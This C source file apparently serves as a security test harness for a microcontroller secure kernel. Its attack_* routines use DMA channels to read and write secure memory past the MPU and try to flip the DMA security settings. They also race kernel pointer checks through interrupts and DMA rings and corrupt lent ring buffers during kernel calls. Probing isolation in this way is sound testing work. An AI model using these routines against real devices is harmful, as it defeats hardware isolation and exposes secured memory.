// Direct memory access, which no MPU of the processor stops.
#include "app.h"

#define CHANNELS         16u
#define CHANNEL(base, n) ((base) + 0x50u + 0x80u * (n))
#define CLBAR            0x00u
#define CFCR             0x0Cu
#define CSR              0x10u
#define CCR              0x14u
#define CTR1             0x40u
#define CTR2             0x44u
#define CBR1             0x48u
#define CSAR             0x4Cu
#define CDAR             0x50u
#define CLLR             0x7Cu

#define SWREQ         (1u << 9)
#define TR1_WORDS_INC (2u | 1u << 3 | 2u << 16 | 1u << 19)
#define SECURE_BOTH   (1u << 15 | 1u << 31) /* SSEC, DSEC */
#define BYTES         64u

static uint32_t buffer[BYTES / 4] __attribute__((aligned(64)));
static uint32_t list[8] __attribute__((aligned(32)));

static void clock_on(void)
{
    (void)mvPeriphPoke32(0x46020C88u, 1u, 1u);           // GPDMA1
    (void)mvPeriphPoke32(0x46020C94u, 1u << 9, 1u << 9); // LPDMA1
}

static void start(uint32_t channel, uint32_t from, uint32_t to, uint32_t extra)
{
    REG(channel + CCR) = 2; // reset
    REG(channel + CFCR) = 0x7F00u;
    REG(channel + CTR1) = TR1_WORDS_INC | extra;
    REG(channel + CTR2) = SWREQ;
    REG(channel + CBR1) = BYTES;
    REG(channel + CSAR) = from;
    REG(channel + CDAR) = to;
    REG(channel + CLLR) = 0;
    REG(channel + CCR) = 1;
    __asm volatile("dsb" ::: "memory");
    spin(3000);
}

// Argument: address, and the channel in its lowest four bits.
uint32_t attack_dma_read(uint32_t argument)
{
    clock_on();
    start(CHANNEL(GPDMA1_NS, argument & 15u), argument & ~15u, (uint32_t)(uintptr_t)buffer,
          SECURE_BOTH);
    for (uint32_t i = 0; i < BYTES / 4; i++) {
        if (buffer[i] != 0) {
            return found(1, argument, i, buffer[i]);
        }
    }
    return found(2, argument, REG(CHANNEL(GPDMA1_NS, argument & 15u) + CSR), 0);
}

uint32_t attack_dma_write(uint32_t argument)
{
    clock_on();
    for (uint32_t i = 0; i < BYTES / 4; i++) {
        buffer[i] = 0xA77AC4EDu;
    }
    start(CHANNEL(GPDMA1_NS, argument & 15u), (uint32_t)(uintptr_t)buffer, argument & ~15u,
          SECURE_BOTH);
    return found(1, argument, REG(CHANNEL(GPDMA1_NS, argument & 15u) + CSR), 0);
}

static uint32_t delays[0x4000 / 4];

static void call_and_call(void)
{
    uint8_t id[34];
    for (uint32_t i = 0; i < 2000; i++) {
        MvExternalFlashHandle flash = 0;
        (void)mvGetDeviceId(id, sizeof id);
        (void)mvExternalFlashOpen(&flash);
        (void)mvExternalFlashClose(&flash);
    }
}

// The illegal access comes while a call is in progress: after so many words of harmless copying,
// then one word of the kernel. From the main stack, or (bit 16) from a task.
uint32_t attack_dma_in_call(uint32_t argument)
{
    uint32_t channel = CHANNEL(GPDMA1_NS, 2);
    clock_on();
    list[0] = 4;                           // CBR1
    list[1] = 0x20080000u;                 // CSAR
    list[2] = (uint32_t)(uintptr_t)buffer; // CDAR
    list[3] = 0;                           // CLLR
    REG(channel + CCR) = 2;
    REG(channel + CTR1) = TR1_WORDS_INC;
    REG(channel + CTR2) = SWREQ;
    REG(channel + CBR1) = (argument & 0xFFFFu) * 4;
    REG(channel + CSAR) = (uint32_t)(uintptr_t)delays;
    REG(channel + CDAR) = (uint32_t)(uintptr_t)delays;
    REG(channel + CLBAR) = (uint32_t)(uintptr_t)list & 0xFFFF0000u;
    REG(channel + CLLR) = ((uint32_t)(uintptr_t)list & 0xFFFCu) | 0x38010000u; // UB1, USA, UDA, ULL
    REG(channel + CCR) = 1;
    if ((argument & 1u << 16) != 0) {
        run_on_process_stack(0x20030000u, call_and_call);
    } else {
        call_and_call();
    }
    return found(1, REG(channel + CSR), REG(channel + CSAR), 0);
}

// Its orders, too, come from memory: a list in secure memory.
uint32_t attack_dma_list(uint32_t argument)
{
    uint32_t channel = CHANNEL(GPDMA1_NS, 3);
    clock_on();
    list[0] = TR1_WORDS_INC;
    REG(channel + CCR) = 2;
    REG(channel + CTR1) = TR1_WORDS_INC;
    REG(channel + CTR2) = SWREQ;
    REG(channel + CBR1) = BYTES;
    REG(channel + CSAR) = (uint32_t)(uintptr_t)buffer;
    REG(channel + CDAR) = (uint32_t)(uintptr_t)buffer;
    REG(channel + CLBAR) = argument & 0xFFFF0000u;
    REG(channel + CLLR) = (argument & 0xFFFCu) | 0xF8000000u;
    REG(channel + CCR) = 1;
    __asm volatile("dsb" ::: "memory");
    spin(3000);
    return found(1, REG(channel + CSR), REG(channel + CSAR), 0);
}

// Claims that its channels are secure.
uint32_t attack_dma_security(uint32_t argument)
{
    (void)argument;
    clock_on();
    REG(GPDMA1_NS) = 0xFFFFu; // SECCFGR
    spin(2000);
    return REG(GPDMA1_NS) == 0 ? 0 : found(1, REG(GPDMA1_NS), 0, 0);
}

uint32_t attack_lpdma(uint32_t argument)
{
    clock_on();
    start(CHANNEL(LPDMA1_NS, argument & 3u), argument & ~15u, SRAM4_NS + 0x100u, SECURE_BOTH);
    return found(2, argument, REG(CHANNEL(LPDMA1_NS, argument & 3u) + CSR), REG(SRAM4_NS + 0x100u));
}

// ---- Structures that change between the check and the use ----

static struct MvNotificationSetup setup;
static struct MvWifiConfig wifi;
static volatile uint32_t flips;

static void flip(void)
{
    static const uint32_t places[] = {0x20010000u, 0x30080000u, 0x20010000u, 0x0C110400u};
    uint32_t place = places[flips++ % 4];
    *(volatile uint32_t *)(uintptr_t)&setup.buffer = place;
    *(volatile uint32_t *)(uintptr_t)&wifi.v1.wifi_ssid.data = place;
}

static uint32_t call_again_and_again(uint32_t times)
{
    for (uint32_t i = 0; i < times; i++) {
        MvNotificationHandle centre = 0;
        setup.irq = 41;
        setup.buffer_size = 32;
        enum MvStatus status = mvSetupNotifications(&setup, &centre);
        if (status == MV_STATUS_OKAY) {
            (void)mvTempTriggerNotification(centre, MV_EVENTTYPE_NETWORKSTATUSCHANGED, 0xA77AC4EDu);
            (void)mvCloseNotifications(&centre);
        } else if (status != MV_STATUS_PARAMETERFAULT) {
            return found(1, status, i, 0);
        }
        wifi.version = 1;
        wifi.v1.wifi_ssid.length = 16;
        (void)mvSetWifiConfig(&wifi);
    }
    return 0;
}

// An interrupt every few hundred cycles changes the pointer.
uint32_t attack_change_by_interrupt(uint32_t argument)
{
    (void)mvPeriphPoke32(0x46020C9Cu, 1u << 2, 1u << 2); // TIM4
    vectors[16 + IRQ_TIM4] = (uint32_t)(uintptr_t)flip;
    REG(TIM4_NS + TIM_PSC_OFS) = 0;
    REG(TIM4_NS + TIM_ARR_OFS) = argument;
    REG(TIM4_NS + TIM_DIER_OFS) = 0;
    REG(TIM4_NS + TIM_CR1_OFS) = 1;
    REG(SYST_RVR) = argument;
    REG(SYST_CVR) = 0;
    vectors[15] = (uint32_t)(uintptr_t)flip;
    REG(SYST_CSR) = 7;
    uint32_t result = call_again_and_again(4000);
    REG(SYST_CSR) = 0;
    vectors[15] = (uint32_t)(uintptr_t)any_interrupt;
    return flips > 100 ? result : found(2, flips, 0, 0);
}

// Four transfers in a ring do the same without any instruction of ours, also during a call.
uint32_t attack_change_by_dma(uint32_t argument)
{
    static uint32_t places[2] = {0x20010000u, 0x30080000u};
    static uint32_t items[2][8] __attribute__((aligned(64)));
    uint32_t channel = CHANNEL(GPDMA1_NS, 5);
    (void)argument;
    clock_on();
    for (uint32_t i = 0; i < 2; i++) {
        items[i][0] = 2u | 2u << 16;
        items[i][1] = SWREQ;
        items[i][2] = 4;
        items[i][3] = (uint32_t)(uintptr_t)&places[i];
        items[i][4] = (uint32_t)(uintptr_t)&setup.buffer;
        items[i][5] = ((uint32_t)(uintptr_t)items[1 - i] & 0xFFFCu) | 0xF8010000u;
    }
    REG(channel + CCR) = 2;
    REG(channel + CLBAR) = (uint32_t)(uintptr_t)items & 0xFFFF0000u;
    REG(channel + CTR1) = items[0][0];
    REG(channel + CTR2) = SWREQ;
    REG(channel + CBR1) = 4;
    REG(channel + CSAR) = items[0][3];
    REG(channel + CDAR) = items[0][4];
    REG(channel + CLLR) = items[0][5];
    REG(channel + CCR) = 1;
    uint32_t result = call_again_and_again(4000);
    uint32_t seen[2] = {0, 0};
    for (uint32_t i = 0; i < 10000; i++) {
        seen[*(volatile uint32_t *)(uintptr_t)&setup.buffer == places[1]]++;
    }
    REG(channel + CCR) = 2;
    return seen[0] != 0 && seen[1] != 0 ? result : found(2, seen[0], seen[1], 0);
}

// The log's ring lies in memory that we lent: we scribble on it while it is used.
uint32_t attack_log_buffer(uint32_t argument)
{
    static uint8_t ring[1024] __attribute__((aligned(512)));
    static const uint8_t text[] = "hostile";
    uint32_t noise = argument;
    if (mvServerLoggingInit(ring, sizeof ring) != MV_STATUS_OKAY) {
        return found(1, 0, 0, 0);
    }
    for (uint32_t i = 0; i < 3000; i++) {
        (void)mvServerLog(text, sizeof text - 1);
        noise = noise * 1664525u + 1013904223u;
        *(uint32_t *)(void *)&ring[noise % sizeof ring & ~3u] = argument == 0 ? ~0u : noise;
        if (i % 100 == 0) {
            wait_us(500);
        }
    }
    return 0;
}

// The same for the ring of a notification centre.
uint32_t attack_notification_ring(uint32_t argument)
{
    static struct MvNotification ring[4];
    MvNotificationHandle centre = 0;
    (void)argument;
    setup = (struct MvNotificationSetup){41, ring, sizeof ring};
    if (mvSetupNotifications(&setup, &centre) != MV_STATUS_OKAY) {
        return found(1, 0, 0, 0);
    }
    for (uint32_t i = 0; i < 1000; i++) {
        for (uint32_t k = 0; k < 16; k++) {
            ((uint32_t *)(void *)ring)[k] = 0xFFFFFFFFu << i % 32;
        }
        (void)mvTempTriggerNotification(centre, (enum MvEventType)i, i);
    }
    return mvCloseNotifications(&centre) == MV_STATUS_OKAY ? 0 : found(2, 0, 0, 0);
}
